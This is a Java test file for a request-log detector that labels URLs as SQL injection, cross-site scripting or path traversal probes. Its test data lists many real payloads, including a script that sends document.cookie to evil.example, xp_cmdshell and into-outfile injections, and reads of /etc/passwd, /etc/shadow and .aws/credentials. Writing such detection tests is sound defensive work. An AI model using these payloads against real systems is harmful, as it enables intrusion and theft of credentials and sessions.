package dev.lakehouse.logs.security;

import static dev.lakehouse.logs.security.ProbeKind.PATH_TRAVERSAL;
import static dev.lakehouse.logs.security.ProbeKind.SQL_INJECTION;
import static dev.lakehouse.logs.security.ProbeKind.XSS;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class ProbeSignaturesTest {
  // a copy of dev.lakehouse.generate.ScanProbe's PATHS and PREFIXES (package-private there): what our scanner sends
  private static final List<String> GENERATED_PATHS = List.of(
      "/wp-login.php", "/wp-admin/", "/wp-admin.php", "/xmlrpc.php", "/.env", "/.git/config", "/.git/HEAD",
      "/phpmyadmin/", "/pma/", "/admin/", "/admin/login.php", "/administrator/", "/config.php", "/config.json",
      "/backup.zip", "/backup.sql", "/db.sql", "/.htaccess", "/.htpasswd", "/server-status", "/cgi-bin/test.cgi",
      "/../../etc/passwd", "/index.php?page=../../../../etc/passwd", "/shell.php", "/console/", "/manager/html",
      "/actuator/env", "/solr/admin/info/system", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
      "/.aws/credentials", "/.DS_Store", "/web.config", "/owa/auth/logon.aspx", "/jenkins/login",
      "/index.php?id=1%27%20OR%20%271%27%3D%271",
      "/product?id=1%27%20OR%20%271%27%3D%271--",
      "/api/v1/users?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
      "/search?q=%27%3BDROP%20TABLE%20orders--",
      "/login?user=admin%27--&pass=x",
      "/cart?item=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
  private static final List<String> GENERATED_PREFIXES =
      List.of("", "/old", "/blog", "/wordpress", "/test", "/backup", "/dev", "/site");

  @ParameterizedTest(name = "{0}")
  @MethodSource("generatedProbes")
  void everyProbeOurGeneratorSendsIsRecognisedAsWhatItIs(String path) {
    assertThat(ProbeSignatures.probes(path, null)).isEqualTo(kindsTheGeneratorMeant(path));
    assertThat(ProbeSignatures.probes(pathPart(path), queryPart(path))).isEqualTo(kindsTheGeneratorMeant(path));
  }

  @Test
  void theGeneratorsProbesCoverEveryKindAndPlainPaths() {
    List<Set<ProbeKind>> found = generatedProbes().map(path -> ProbeSignatures.probes(path, null)).toList();
    assertThat(found).contains(Set.of(SQL_INJECTION), Set.of(XSS), Set.of(PATH_TRAVERSAL), Set.of());
    assertThat(found.stream().filter(kinds -> kinds.contains(SQL_INJECTION)).count()).isEqualTo(5 * 8);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {
      "/index.php?id=1%27%20OR%20%271%27%3D%271",
      "/item?id=1'+or+'1'='1",
      "/item?id=1%27or%271%27%3D%271",
      "/item?id=1%27)%20or%20(%27a%27=%27a",
      "/item?id=1%22%20or%20%22%22%3D%22",
      "/login?user=x%27%20or%201%3D1--%20&pass=x",
      "/products.php?id=1+or+1%3D1--",
      "/login?user=admin%27--&pass=x",
      "/login?user=admin%27+--+&pass=x",
      "/login?user=admin%27%23&pass=x",
      "/news?id=-1+UNION+ALL+SELECT+NULL%2CNULL%2CCONCAT%280x7178787171%2C0x%29--+-",
      "/api/v1/users?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
      "/item?id=1/**/union/**/select/**/1,2,3",
      "/item?id=1+union+distinct+select+@@version--",
      "/search?q=%27%3BDROP%20TABLE%20orders--",
      "/item?id=1;drop table users",
      "/item?id=1%27%20AND%20SLEEP(5)--%20-",
      "/item?id=1%20AND%20(SELECT%201234%20FROM%20(SELECT(SLEEP(5)))abc)",
      "/item?id=1);SELECT%20PG_SLEEP(5)--",
      "/item?id=1;WAITFOR%20DELAY%20%270:0:5%27--",
      "/item?id=1%20AND%20BENCHMARK(5000000,MD5(1))",
      "/item?id=1+and+1=2+union+select+table_name+from+information_schema.tables",
      "/item?id=1;EXEC%20xp_cmdshell(%27dir%27)",
      "/item?id=1%2527%2520or%2520%25271%2527%253D%25271",
      "/item?id=1%20and%20load_file(%27/etc/hosts%27)",
      "/item?id=1%20union%20select%201%20into%20outfile%20%27/var/www/x.php%27",
      "/item?id=1 OR 'a'='a'",
      "/item?id=1%27%20ORDER%20BY%203--%20",
      "/item?id=1%20order%20by%2010%23",
      "/item?id=1%20having%201=1",
      "/item?id=1%20and%20extractvalue(1,concat(0x7e,version()))"})
  void sqlInjectionAsToolsAndPeopleWriteIt(String path) {
    assertThat(ProbeSignatures.probes(path, null)).containsExactly(SQL_INJECTION);
    assertThat(ProbeSignatures.firstProbe(path, null)).isEqualTo("sql_injection");
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {
      "/cart?item=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
      "/search?q=%3CScRiPt+src%3D%2F%2Fevil.example%2Fx.js%3E",
      "/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
      "/search?q=%3CIMG+SRC%3D%22http%3A%2F%2Fevil.example%2Fx.png%22%3E",
      "/search?q=<svg/onload=alert(1)>",
      "/search?q=%22%3E%3Csvg%20onload%3Dconfirm%281%29%3E",
      "/redirect?url=javascript:alert(document.cookie)",
      "/redirect?url=JaVaScRiPt%3Aalert%281%29",
      "/redirect?url=javascript://%250aalert(1)",
      "/page?name=%22+onmouseover%3D%22alert(1)",
      "/comment?text=%3Ciframe%20src%3D%22https%3A%2F%2Fevil.example%22%3E",
      "/profile?bio=<body onload=init()>",
      "/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
      "/search?q=%22%3E%3Cscript%3Efetch(%27%2F%2Fevil.example%2F%3Fc%3D%27%2Bdocument.cookie)%3C%2Fscript%3E",
      "/search?q=%27-prompt(1)-%27",
      "/redirect?url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="})
  void crossSiteScriptingAsPayloadListsWriteIt(String path) {
    assertThat(ProbeSignatures.probes(path, null)).containsExactly(XSS);
    assertThat(ProbeSignatures.firstProbe(path, null)).isEqualTo("xss");
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {
      "/../../etc/passwd",
      "/index.php?page=../../../../etc/passwd",
      "/static/..%2f..%2f..%2fetc%2fpasswd",
      "/static/%2e%2e%2f%2e%2e%2fetc%2fshadow",
      "/static/%2E%2E%2F%2E%2E%2Fapp.py",
      "/download?file=%252e%252e%252f%252e%252e%252fwindows%252fwin.ini",
      "/files?name=..%5c..%5c..%5cboot.ini",
      "/cgi-bin/..%c0%af..%c0%afwinnt/system32/cmd.exe",
      "/view?file=%c0%ae%c0%ae/%c0%ae%c0%ae/secret.txt",
      "/scripts/%u002e%u002e%u002fapp.config",
      "/download?file=C:%5CWindows%5Csystem.ini",
      "/download?file=c:/windows/system32/drivers/etc/hosts",
      "/index.php?page=/proc/self/environ",
      "/index.php?page=/etc/passwd",
      "/manager/..;/html",
      "/?file=....//....//app.yaml"})
  void pathTraversalPlainAndEncoded(String path) {
    assertThat(ProbeSignatures.probes(path, null)).containsExactly(PATH_TRAVERSAL);
    assertThat(ProbeSignatures.firstProbe(path, null)).isEqualTo("path_traversal");
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {
      "/",
      "/index.html",
      "/product/o-reilly-book",
      "/product/womens-running-shoes-size-8",
      "/products/1234?ref=home&utm_source=newsletter",
      "/category/books?page=2",
      "/search?q=union+jack+flag",
      "/search?q=select+shoes",
      "/search?q=trade+union+select+committee",
      "/search?q=o'brien",
      "/search?q=o%27brien",
      "/search?q=women%27s+shoes",
      "/search?q=rock+%27n%27+roll",
      "/search?q=rock%27+and+roll&page=2",
      "/search?q=don%27t+stop+believin%27",
      "/search?q=tom+and+jerry+dvd",
      "/search?q=black+or+white&sort=price",
      "/search?q=javascript%3A+the+good+parts",
      "/search?q=sleep+mask",
      "/search?q=sleep+(2021+film)",
      "/search?q=it%27s+a+wonderful+life",
      "/search?q=men%27s+or+women%27s",
      "/search?q=order+by+phone",
      "/search?q=price+alert+(beta)",
      "/search?q=100%25+cotton",
      "/search?q=c%2B%2B+primer",
      "/search?q=%22the+hobbit%22",
      "/search?q=1%2F2+inch+drill+bit",
      "/search?q=sql+injection+explained",
      "/static/js/app.3f9a1c.min.js",
      "/assets/css/main.css?v=2.1.0",
      "/images/logo@2x.png",
      "/static/img/logo.svg",
      "/search?q=usb-c+cable",
      "/api/v1/cart/items?limit=20&offset=40",
      "/products?color=red&onsale=true&onload=1",
      "/blog/2024/10/how-to-choose-a-drill",
      "/account/orders?sort=date&order=desc"})
  void ordinaryShopRequestsTryNothing(String path) {
    assertThat(ProbeSignatures.probes(path, null)).isEmpty();
    assertThat(ProbeSignatures.firstProbe(path, null)).isNull();
  }

  @Test
  void aRequestCanTrySeveralKindsAndTheFirstIsInEnumOrder() {
    String path = "/index.php?page=../../etc/passwd&q=%3Cscript%3Ealert(1)%3C/script%3E";
    assertThat(ProbeSignatures.probes(path, null)).containsExactly(XSS, PATH_TRAVERSAL);
    assertThat(ProbeSignatures.firstProbe(path, null)).isEqualTo("xss");
    String all = "/item?id=1%27+union+select+%27%3Cscript%3E%27,2--&f=../../etc/passwd";
    assertThat(ProbeSignatures.probes(all, null)).containsExactly(SQL_INJECTION, XSS, PATH_TRAVERSAL);
    assertThat(ProbeSignatures.firstProbe(all, null)).isEqualTo("sql_injection");
  }

  @ParameterizedTest(name = "{0} ? {1}")
  @CsvSource(nullValues = "NULL", delimiter = '|', textBlock = """
      /index.php                | id=1%27%20OR%20%271%27%3D%271      | sql_injection
      /search?lang=en           | q=%3Cscript%3Ealert(1)%3C/script%3E | xss
      NULL                      | page=..%2f..%2fetc%2fpasswd         | path_traversal
      /static/..%2f..%2fapp.py  | NULL                                | path_traversal
      /search                   | q=union+jack+flag                   | NULL
      NULL                      | NULL                                | NULL
      ''                        | ''                                  | NULL
      """)
  void pathAndQueryMayComeApartOrAlone(String path, String query, String ruleId) {
    assertThat(ProbeSignatures.firstProbe(path, query)).isEqualTo(ruleId);
  }

  @Test
  void plusIsASpaceOnlyInTheQuery() {
    assertThat(ProbeSignatures.probes("/search", "q=1%27+or+%271%27%3D%271")).containsExactly(SQL_INJECTION);
    assertThat(ProbeSignatures.probes("/item/1%27+or+%271%27%3D%271", null)).isEmpty();
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"/a%", "/a%2", "/%zz%g0", "/search?q=%%%%", "/x?q=%u12", "/x?q=%c0", "/x?q=%c0%", "%"})
  void malformedEscapesAreKeptNotThrown(String path) {
    assertThat(ProbeSignatures.probes(path, null)).isEmpty();
  }

  @Test
  void theAnswerCannotBeChanged() {
    Set<ProbeKind> none = ProbeSignatures.probes("/", null);
    Set<ProbeKind> some = ProbeSignatures.probes("/../etc/passwd", null);
    assertThatThrownBy(() -> none.add(XSS)).isInstanceOf(UnsupportedOperationException.class);
    assertThatThrownBy(() -> some.clear()).isInstanceOf(UnsupportedOperationException.class);
  }

  @Test
  void longHostileTextsTakeLinearTime() {
    List<String> hostile = List.of(
        "'" + " ".repeat(50_000) + "x",
        "' or " + "(".repeat(50_000),
        "union ".repeat(10_000) + "x",
        "union select " + "a".repeat(50_000),
        "<img ".repeat(10_000),
        "javascript:" + "a".repeat(50_000),
        "..".repeat(25_000) + "x",
        "%25".repeat(20_000),
        "' or 1".repeat(10_000));
    assertTimeoutPreemptively(Duration.ofSeconds(20), () -> {
      for (String text : hostile) {
        ProbeSignatures.probes("/search", "q=" + text);
      }
    });
  }

  static Stream<String> generatedProbes() {
    List<String> paths = new ArrayList<>();
    for (String prefix : GENERATED_PREFIXES) {
      GENERATED_PATHS.forEach(path -> paths.add(prefix + path));
    }
    return paths.stream();
  }

  // an encoded quote or a union select is SQL injection, an encoded script tag XSS, "../" a traversal
  private static Set<ProbeKind> kindsTheGeneratorMeant(String path) {
    if (path.contains("%27") || path.contains("UNION%20SELECT")) {
      return Set.of(SQL_INJECTION);
    }
    if (path.contains("%3Cscript")) {
      return Set.of(XSS);
    }
    return path.contains("../") ? Set.of(PATH_TRAVERSAL) : Set.of();
  }

  private static String pathPart(String path) {
    int question = path.indexOf('?');
    return question < 0 ? path : path.substring(0, question);
  }

  private static String queryPart(String path) {
    int question = path.indexOf('?');
    return question < 0 ? null : path.substring(question + 1);
  }
}
